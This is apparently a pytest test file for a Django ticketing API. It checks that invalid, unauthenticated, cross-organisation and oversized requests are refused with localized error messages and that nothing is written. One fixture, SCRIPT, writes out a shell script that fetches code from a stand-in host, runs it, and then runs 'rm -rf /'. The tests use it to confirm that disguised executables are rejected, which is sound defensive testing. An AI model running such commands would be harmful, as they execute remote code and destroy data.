"""Every bad input of the spec, sent through /api/v1: the right status, the fields named, a message in
the request's language, and nothing written — no ticket, event, attachment row, nor file on disk.

A refusal's message is checked to be English for an English client. Chinese messages are checked in
one place (test_it_answers_every_refusal_in_chinese_for_a_zh_hans_client), expected to fail until
locale/zh_Hans/LC_MESSAGES/django.po exists.
"""

from __future__ import annotations

import contextlib
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from serviceloop.accounts.services import token_create, token_revoke
from serviceloop.tickets import services
from tests.personas import db_snapshot, transition

CJK = re.compile(r"[\u3400-\u9fff\uf900-\ufaff\u3000-\u303f\uff00-\uffef]")
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200
MZ = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"PE\x00\x00"
    + b"\x00" * 200
)
SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\nrm -rf /\n"
UNKNOWN_ID = 987654

# --- helpers --------------------------------------------------------------------------------------



@contextlib.contextmanager
def nothing_written():
    """Fails if the block wrote a row (or changed a ticket), or left a file under MEDIA_ROOT."""
    before = db_snapshot()
    yield
    assert db_snapshot() == before, "a refused request wrote something"


def assert_refused(response, status: int, code: str, fields: list[str] | None = None, language: str = "en",
                   echo: tuple[str, ...] = ()):
    """The status, the error code, the field names in `errors` (in order) and a message in the language.

    `echo` lists what the request sent that the message may quote back (a Chinese file name, say).
    """
    assert response.status_code == status, (response.status_code, response.content[:600])
    body = response.json()
    assert body["code"] == code, body
    assert isinstance(body["message"], str) and body["message"].strip(), body
    if fields is not None:
        assert [e["field"] for e in body["errors"]] == fields, body
        assert all(e["message"].strip() for e in body["errors"]), body
    if language == "en":
        # An English client reads English (the site's default language is zh-Hans).
        message = body["message"]
        for quoted in echo:
            message = message.replace(quoted, "")
        assert not CJK.search(message), body
        assert not any(CJK.search(e["message"]) for e in body.get("errors") or []), body
    return body


def _ticket_body(world, **extra) -> dict:
    return {
        "title": "X-3000 无法开机",
        "description": "上电后无显示",
        "organization_id": world.org_a.pk,
        **extra,
    }


def _upload(api, ticket, name: str, content: bytes, internal: str = "false"):
    return api.upload(
        f"tickets/{ticket.number}/attachments", SimpleUploadedFile(name, content), internal=internal
    )


# --- missing and malformed fields: 422 --------------------------------------------------------------

@pytest.mark.parametrize("language", ["en", "zh-hans"])
def test_it_refuses_missing_fields_naming_them(language, world, api_as):
    with nothing_written():
        response = api_as("alice", language).post("tickets", {"organization_id": world.org_a.pk})
    body = assert_refused(response, 422, "invalid", ["title", "description"], language)
    assert "title" in body["message"] and "description" in body["message"]
    assert {e["type"] for e in body["errors"]} == {"missing"}


@pytest.mark.parametrize("language", ["en", "zh-hans"])
def test_it_refuses_a_staff_ticket_without_an_organisation(language, world, api_as):
    with nothing_written():
        response = api_as("alice", language).post("tickets", {"title": "无法开机", "description": "黑屏"})
    assert_refused(response, 422, "invalid", ["organization_id"], language)


@pytest.mark.parametrize(("field", "value"), [
    ("affected_users", "四十"),
    ("affected_users", -1),
    ("occurred_at", "昨天下午"),
    ("urgency", "very"),
    ("channel", "fax"),
    ("expedite", "perhaps"),
    ("title", 123),
    ("category_id", "硬件类"),
])
@pytest.mark.parametrize("language", ["en", "zh-hans"])
def test_it_refuses_malformed_fields_naming_them(field, value, language, world, api_as):
    with nothing_written():
        response = api_as("alice", language).post("tickets", _ticket_body(world, **{field: value}))
    body = assert_refused(response, 422, "invalid", [field], language)
    assert field in body["message"]


def test_it_refuses_malformed_update_fields(world, api_as):
    ticket = world.ticket()
    with nothing_written():
        response = api_as("alice").patch(f"tickets/{ticket.number}",
                                         {"urgency": "extreme", "affected_users": "many", "title": ""})
    assert_refused(response, 422, "invalid", ["title", "urgency", "affected_users"])


@pytest.mark.parametrize("title", [None, "", "   "])
def test_it_refuses_to_blank_the_title_of_a_ticket(title, world, api_as):
    ticket = world.ticket()
    with nothing_written():
        response = api_as("alice").patch(f"tickets/{ticket.number}", {"title": title})
    assert_refused(response, 422, "invalid", ["title"])


# --- unknown references: 422 naming the field ------------------------------------------------------

@pytest.mark.parametrize("field", ["category_id", "organization_id", "contact_id", "product_id"])
def test_it_refuses_an_unknown_id_when_creating_a_ticket(field, world, api_as):
    with nothing_written():
        response = api_as("alice").post("tickets", _ticket_body(world, **{field: UNKNOWN_ID}))
    body = assert_refused(response, 422, "invalid", [field])
    assert str(UNKNOWN_ID) in body["message"]


@pytest.mark.parametrize("field", ["category_id", "organization_id", "contact_id", "product_id"])
@pytest.mark.parametrize("huge", [10**20, -(10**20)])
def test_an_id_beyond_any_database_integer_is_unknown_not_a_server_error(field, huge, world, api_as):
    with nothing_written():
        response = api_as("alice").post("tickets", _ticket_body(world, **{field: huge}))
    assert_refused(response, 422, "invalid", [field])


@pytest.mark.parametrize("field", ["contact_id", "product_id"])
def test_it_refuses_a_customer_naming_another_organisations_contact_or_product(field, world, api_as):
    other = {"contact_id": world.contact_b.pk, "product_id": world.product_b.pk}[field]
    with nothing_written():
        response = api_as("carol").post("tickets", {"title": "无法开机", "description": "黑屏", field: other})
    assert_refused(response, 422, "invalid", [field])


@pytest.mark.parametrize("case", ["other_orgs_contact", "other_orgs_product", "retired_category",
                                  "category_of_another_type"])
def test_it_refuses_a_reference_that_does_not_fit_naming_the_field_sent(case, world, api_as):
    """The id exists but cannot be used here; the error must still name the field the client sent."""
    if case == "retired_category":
        world.power.is_active = False
        world.power.save(update_fields=["is_active"])
    if case == "category_of_another_type":
        world.power.ticket_type = "complaint"
        world.power.save(update_fields=["ticket_type"])
    field, value = {
        "other_orgs_contact": ("contact_id", world.contact_b.pk),
        "other_orgs_product": ("product_id", world.product_b.pk),
        "retired_category": ("category_id", world.power.pk),
        "category_of_another_type": ("category_id", world.power.pk),
    }[case]
    with nothing_written():
        response = api_as("alice").post("tickets", _ticket_body(world, **{field: value}))
    assert_refused(response, 422, "invalid", [field])


@pytest.mark.parametrize(("field", "value"), [
    ("category_id", UNKNOWN_ID), ("contact_id", UNKNOWN_ID), ("product_id", UNKNOWN_ID),
    ("contact_id", "contact_b"), ("product_id", "product_b"),
])
def test_it_refuses_an_unknown_id_when_updating_a_ticket(field, value, world, api_as):
    ticket = world.ticket()
    value = getattr(world, value).pk if isinstance(value, str) else value
    with nothing_written():
        response = api_as("alice").patch(f"tickets/{ticket.number}", {field: value})
    assert_refused(response, 422, "invalid", [field])


@pytest.mark.parametrize(("body", "field"), [
    ({"owner_id": UNKNOWN_ID}, "owner_id"),
    ({"owner_id": "carol"}, "owner_id"),  # a customer is not service staff
    ({"group_id": UNKNOWN_ID}, "group_id"),
    ({"co_handler_ids": [UNKNOWN_ID]}, "co_handler_ids"),
])
def test_it_refuses_assigning_to_someone_unknown(body, field, world, api_as):
    ticket = world.ticket()
    body = {k: (getattr(world, v).pk if isinstance(v, str) else v) for k, v in body.items()}
    with nothing_written():
        response = api_as("alice").post(f"tickets/{ticket.number}/assign", body)
    assert_refused(response, 422, "invalid", [field])


@pytest.mark.parametrize(("path", "body", "field"), [
    ("contacts", {"organization_id": UNKNOWN_ID, "name": "张工", "phone": "13700001111"}, "organization_id"),
    ("products", {"organization_id": UNKNOWN_ID, "product_model_id": None, "serial_number": "SN-X"},
     "organization_id"),
    ("products", {"organization_id": None, "product_model_id": UNKNOWN_ID, "serial_number": "SN-X"},
     "product_model_id"),
])
def test_it_refuses_an_unknown_id_for_reference_data(path, body, field, world, api_as):
    defaults = {"organization_id": world.org_a.pk, "product_model_id": world.product_a.product_model_id}
    body = {k: (defaults[k] if v is None else v) for k, v in body.items()}
    with nothing_written():
        response = api_as("alice").post(path, body)
    assert_refused(response, 422, "invalid", [field])


# --- a body that is not JSON: 400 -------------------------------------------------------------------

@pytest.mark.parametrize(
    "raw", ["{not json", "title=无法开机&description=黑屏", '{"title": "x",}', "\x00\x01"]
)
def test_it_refuses_a_body_that_is_not_json(raw, world, api_as):
    with nothing_written():
        response = api_as("alice").post("tickets", raw)
    body = assert_refused(response, 400, "bad_request")
    assert "JSON" in body["message"]


@pytest.mark.parametrize(
    "endpoint",
    [
        "patch:tickets/{n}",
        "post:tickets/{n}/transition",
        "post:tickets/{n}/replies",
        "post:tickets/{n}/notes",
        "post:organizations",
        "post:contacts",
    ],
)
def test_every_json_endpoint_refuses_a_body_that_is_not_json(endpoint, world, api_as):
    ticket = world.ticket()
    method, path = endpoint.split(":")
    with nothing_written():
        response = getattr(api_as("alice"), method)(path.format(n=ticket.number), "{broken")
    assert_refused(response, 400, "bad_request")


def test_it_refuses_json_that_is_not_an_object(world, api_as):
    with nothing_written():
        response = api_as("alice").post("tickets", "[1, 2, 3]")
    assert_refused(response, 422, "invalid", ["body"])


# --- authentication: 401 ----------------------------------------------------------------------------

def _revoked(world) -> str:
    row, raw = token_create(user=world.alice)
    token_revoke(token=row)
    return raw


def _inactive(world) -> str:
    raw = world.token("eric")
    world.eric.is_active = False
    world.eric.save(update_fields=["is_active"])
    return raw


TOKENS = {
    "no_token": lambda w: None,
    "bad_token": lambda w: "sl_this-token-was-never-issued-0123456789abcdef",
    "revoked_token": _revoked,
    "inactive_users_token": _inactive,
    "wrong_scheme": lambda w: "Token " + w.token("alice"),
}


def _client(world, api_as, kind: str, *, enforce_csrf: bool = False):
    api = api_as(None)
    token = TOKENS[kind](world)
    if token:
        api.headers["HTTP_AUTHORIZATION"] = token if token.startswith("Token ") else f"Bearer {token}"
    if enforce_csrf:
        api.client = Client(enforce_csrf_checks=True)
    return api


@pytest.mark.parametrize("kind", list(TOKENS))
def test_it_refuses_a_request_without_a_valid_token(kind, world, api_as):
    ticket = world.ticket()
    api = _client(world, api_as, kind)
    with nothing_written():
        responses = [api.get("tickets"), api.get(f"tickets/{ticket.number}"), api.get("users/me"),
                     api.post("tickets", _ticket_body(world)),
                     api.post(f"tickets/{ticket.number}/replies", {"body": "你好"}),
                     _upload(api, ticket, "照片.png", PNG)]
    for response in responses:
        assert_refused(response, 401, "unauthenticated")


@pytest.mark.parametrize("kind", ["no_token", "bad_token", "revoked_token"])
def test_it_refuses_a_write_without_a_valid_token_with_401_not_a_csrf_403(kind, world, api_as):
    """A real client gets no CSRF exemption (Django's test client does, unless asked not to)."""
    api = _client(world, api_as, kind, enforce_csrf=True)
    with nothing_written():
        response = api.post("tickets", _ticket_body(world))
    assert_refused(response, 401, "unauthenticated")


# --- another organisation's ticket: 404 ------------------------------------------------------------

@pytest.mark.parametrize("request_", ["get", "patch", "transition", "reply", "note", "upload", "timeline"])
def test_it_answers_404_for_another_organisations_ticket(request_, world, api_as):
    ticket = world.ticket(by="carol", title="华东产线停机")
    bob, path = api_as("bob"), f"tickets/{ticket.number}"
    calls = {
        "get": lambda: bob.get(path),
        "patch": lambda: bob.patch(path, {"title": "改掉"}),
        "transition": lambda: bob.post(f"{path}/transition", {"status": "closed"}),
        "reply": lambda: bob.post(f"{path}/replies", {"body": "我来看看"}),
        "note": lambda: bob.post(f"{path}/notes", {"body": "内部"}),
        "upload": lambda: _upload(bob, ticket, "照片.png", PNG),
        "timeline": lambda: bob.get(f"{path}/timeline"),
    }
    with nothing_written():
        response = calls[request_]()
    body = assert_refused(response, 404, "not_found")
    assert "华东" not in str(body)
    # Exactly what a number that does not exist gets: nothing tells bob the ticket is there.
    missing = bob.get("tickets/000000-0000").json()
    assert body == {**missing, "message": missing["message"].replace("000000-0000", ticket.number)}


# --- a transition the flow does not allow: 409 with the allowed next states ------------------------

@pytest.mark.parametrize(("who", "setup", "target", "allowed"), [
    ("alice", [], "resolved", ["accepted", "in_progress", "escalated", "closed"]),
    ("alice", [], "pending", ["accepted", "in_progress", "escalated", "closed"]),
    ("alice", ["in_progress", "resolved", "closed"], "in_progress", ["reopened"]),
    ("carol", [], "closed", []),
    ("carol", ["in_progress", "resolved"], "in_progress", ["closed", "reopened"]),
])
def test_it_refuses_a_transition_the_flow_does_not_allow(who, setup, target, allowed, world, api_as):
    ticket = world.ticket()
    for status in setup:
        transition(ticket, world.alice, status)
    with nothing_written():
        response = api_as(who).post(f"tickets/{ticket.number}/transition", {"status": target, "note": "试试"})
    body = assert_refused(response, 409, "conflict")
    assert body["allowed"] == allowed
    ticket.refresh_from_db()
    assert ticket.status == (setup[-1] if setup else "new")


def test_it_refuses_a_pending_transition_without_pending_until(world, api_as):
    ticket = world.ticket()
    services.ticket_accept(ticket=ticket, actor=world.alice)
    with nothing_written():
        response = api_as("alice").post(f"tickets/{ticket.number}/transition", {"status": "pending"})
    assert_refused(response, 422, "invalid", ["pending_until"])


@pytest.mark.parametrize(("body", "field"), [
    ({"status": "pending", "pending_until": "下周"}, "pending_until"),
    ({"status": "done"}, "status"),
    ({"status": "in_progress", "sub_status": "napping"}, "sub_status"),
    ({}, "status"),
])
def test_it_refuses_a_malformed_transition(body, field, world, api_as):
    ticket = world.ticket()
    services.ticket_accept(ticket=ticket, actor=world.alice)
    with nothing_written():
        response = api_as("alice").post(f"tickets/{ticket.number}/transition", body)
    assert_refused(response, 422, "invalid", [field])


# --- attachments: 413, 415, 422 ---------------------------------------------------------------------

@pytest.mark.parametrize("internal", ["false", "true"])
def test_it_refuses_an_attachment_over_the_size_limit(internal, world, api_as, settings):
    settings.ATTACHMENT_MAX_BYTES = 1024
    ticket = world.ticket()
    with nothing_written():
        response = _upload(api_as("alice"), ticket, "现场照片.png", PNG + b"\x00" * 1024, internal=internal)
    assert_refused(response, 413, "too_large")


def test_a_file_exactly_at_the_limit_is_still_accepted(world, api_as, settings):
    settings.ATTACHMENT_MAX_BYTES = 1024
    content = PNG + b"\x00" * (1024 - len(PNG))
    response = _upload(api_as("alice"), world.ticket(), "现场照片.png", content)
    assert response.status_code == 201, (
        response.content
    )  # the limit is inclusive: the test above is not vacuous


@pytest.mark.parametrize(("name", "content"), [
    ("截图.png", ELF), ("photo.PNG", ELF), ("installer", ELF),
    ("截图.png", MZ), ("report.pdf", MZ), ("setup.exe", MZ),
])
def test_it_refuses_an_executable_whatever_its_name(name, content, world, api_as):
    ticket = world.ticket()
    with nothing_written():
        response = _upload(api_as("carol"), ticket, name, content)
    assert_refused(response, 415, "unsupported_type", echo=(name,))


@pytest.mark.parametrize("name", ["截图.png", "scan.jpg", "manual.pdf"])
def test_it_refuses_a_shell_script_renamed_as_an_image_or_document(name, world, api_as):
    ticket = world.ticket()
    with nothing_written():
        response = _upload(api_as("carol"), ticket, name, SCRIPT)
    assert_refused(response, 415, "unsupported_type", echo=(name,))


def test_it_refuses_an_empty_file(world, api_as):
    ticket = world.ticket()
    with nothing_written():
        response = _upload(api_as("alice"), ticket, "空.png", b"")
    assert_refused(response, 422, "invalid", ["file"])


def test_it_refuses_an_upload_without_a_file_naming_the_file_field(world, api_as):
    ticket = world.ticket()
    api = api_as("alice")
    with nothing_written():
        response = api.client.post(f"/api/v1/tickets/{ticket.number}/attachments", {"internal": "false"},
                                   **api.headers)
    assert_refused(response, 422, "invalid", ["file"])


def test_it_refuses_an_upload_whose_internal_flag_is_not_a_boolean(world, api_as):
    ticket = world.ticket()
    with nothing_written():
        response = _upload(api_as("alice"), ticket, "照片.png", PNG, internal="也许")
    assert_refused(response, 422, "invalid", ["internal"])


# --- sizes: 422 -------------------------------------------------------------------------------------

@pytest.mark.parametrize("how", ["create", "update"])
def test_it_refuses_a_1_mb_description(how, world, api_as):
    ticket = world.ticket()
    description = "设备上电后无显示。" * (1024 * 1024 // 27)  # ~1 MB in UTF-8, ~116,000 characters
    api = api_as("alice")
    with nothing_written():
        if how == "create":
            response = api.post("tickets", _ticket_body(world, description=description))
        else:
            response = api.patch(f"tickets/{ticket.number}", {"description": description})
    body = assert_refused(response, 422, "invalid", ["description"])
    assert "20000" in body["errors"][0]["message"]


@pytest.mark.parametrize("how", ["create", "update"])
def test_it_refuses_a_300_character_title(how, world, api_as):
    ticket = world.ticket()
    title = "标" * 300
    api = api_as("alice")
    with nothing_written():
        if how == "create":
            response = api.post("tickets", _ticket_body(world, title=title))
        else:
            response = api.patch(f"tickets/{ticket.number}", {"title": title})
    body = assert_refused(response, 422, "invalid", ["title"])
    assert "200" in body["errors"][0]["message"]


# --- unknown fields: 422 ----------------------------------------------------------------------------

@pytest.mark.parametrize("endpoint", [
    "post:tickets", "patch:tickets/{n}", "post:tickets/{n}/transition", "post:tickets/{n}/assign",
    "post:tickets/{n}/priority", "post:tickets/{n}/replies", "post:tickets/{n}/notes",
    "post:tickets/{n}/communications", "post:organizations", "post:contacts", "post:products",
])
def test_it_refuses_an_unknown_extra_field(endpoint, world, api_as):
    ticket = world.ticket()
    valid = {
        "tickets": _ticket_body(world),
        "tickets/{n}": {"title": "新标题"},
        "tickets/{n}/transition": {"status": "accepted"},
        "tickets/{n}/assign": {"owner_id": world.eric.pk},
        "tickets/{n}/priority": {"priority": "urgent", "reason": "停产"},
        "tickets/{n}/replies": {"body": "您好"},
        "tickets/{n}/notes": {"body": "诊断"},
        "tickets/{n}/communications": {"channel": "phone", "customer_feedback": "收到"},
        "organizations": {"name": "新客户有限公司"},
        "contacts": {"organization_id": world.org_a.pk, "name": "张工", "phone": "13700001111"},
        "products": {"organization_id": world.org_a.pk, "product_model_id": world.product_a.product_model_id,
                     "serial_number": "SN-NEW-1"},
    }
    method, path = endpoint.split(":")
    with nothing_written():
        response = getattr(api_as("sam"), method)(
            path.format(n=ticket.number), {**valid[path], "colour": "红"}
        )
    body = assert_refused(response, 422, "invalid", ["colour"])
    assert body["errors"][0]["type"] == "extra_forbidden"


# --- paging: 422 ------------------------------------------------------------------------------------

LISTS = ["tickets", "organizations", "contacts", "products", "tickets/{n}/timeline"]


@pytest.mark.parametrize("limit", [0, -5, 1000, "二十"])
@pytest.mark.parametrize("path", LISTS)
def test_it_refuses_a_page_size_out_of_range(path, limit, world, api_as):
    ticket = world.ticket()
    response = api_as("alice").get(path.format(n=ticket.number), {"limit": limit})
    body = assert_refused(response, 422, "invalid", ["limit"])
    assert "limit" in body["message"]


@pytest.mark.parametrize("cursor", ["garbage!", "光标", "AAAA", "MWU1", "OTk5" * 1500])
@pytest.mark.parametrize("path", LISTS)
def test_it_refuses_a_garbage_cursor(path, cursor, world, api_as):
    ticket = world.ticket()
    response = api_as("alice").get(path.format(n=ticket.number), {"cursor": cursor})
    assert_refused(response, 422, "invalid", ["cursor"])


# --- the same refusals in Chinese -------------------------------------------------------------------

def _zh_cases(world, api_as, settings):
    zh = api_as("alice", "zh-hans")
    ticket = world.ticket(by="carol")
    settings.ATTACHMENT_MAX_BYTES = 1024
    return {
        "missing_fields": lambda: zh.post("tickets", {}),
        "malformed_field": lambda: zh.post("tickets", _ticket_body(world, affected_users="四十")),
        "unknown_id": lambda: zh.post("tickets", _ticket_body(world, category_id=UNKNOWN_ID)),
        "not_json": lambda: zh.post("tickets", "{broken"),
        "no_token": lambda: api_as(None, "zh-hans").get("tickets"),
        "other_organisation": lambda: api_as("bob", "zh-hans").get(f"tickets/{ticket.number}"),
        "transition": lambda: zh.post(f"tickets/{ticket.number}/transition", {"status": "resolved"}),
        "too_large": lambda: _upload(zh, ticket, "大.png", PNG * 100),
        "executable": lambda: _upload(zh, ticket, "截图.png", ELF),
        "title_too_long": lambda: zh.post("tickets", _ticket_body(world, title="标" * 300)),
        "unknown_field": lambda: zh.post("tickets", _ticket_body(world, colour="红")),
        "limit": lambda: zh.get("tickets", {"limit": 0}),
        "cursor": lambda: zh.get("tickets", {"cursor": "garbage!"}),
    }


@pytest.mark.parametrize("case", ["missing_fields", "malformed_field", "unknown_id", "not_json", "no_token",
                                  "other_organisation", "transition", "too_large", "executable",
                                  "title_too_long", "unknown_field", "limit", "cursor"])
def test_it_answers_every_refusal_in_chinese_for_a_zh_hans_client(case, world, api_as, settings):
    call = _zh_cases(world, api_as, settings)[case]
    with nothing_written():
        response = call()
    assert response.status_code >= 400
    body = response.json()
    assert CJK.search(body["message"]), body["message"]
    for error in body.get("errors") or []:
        assert CJK.search(error["message"]), error
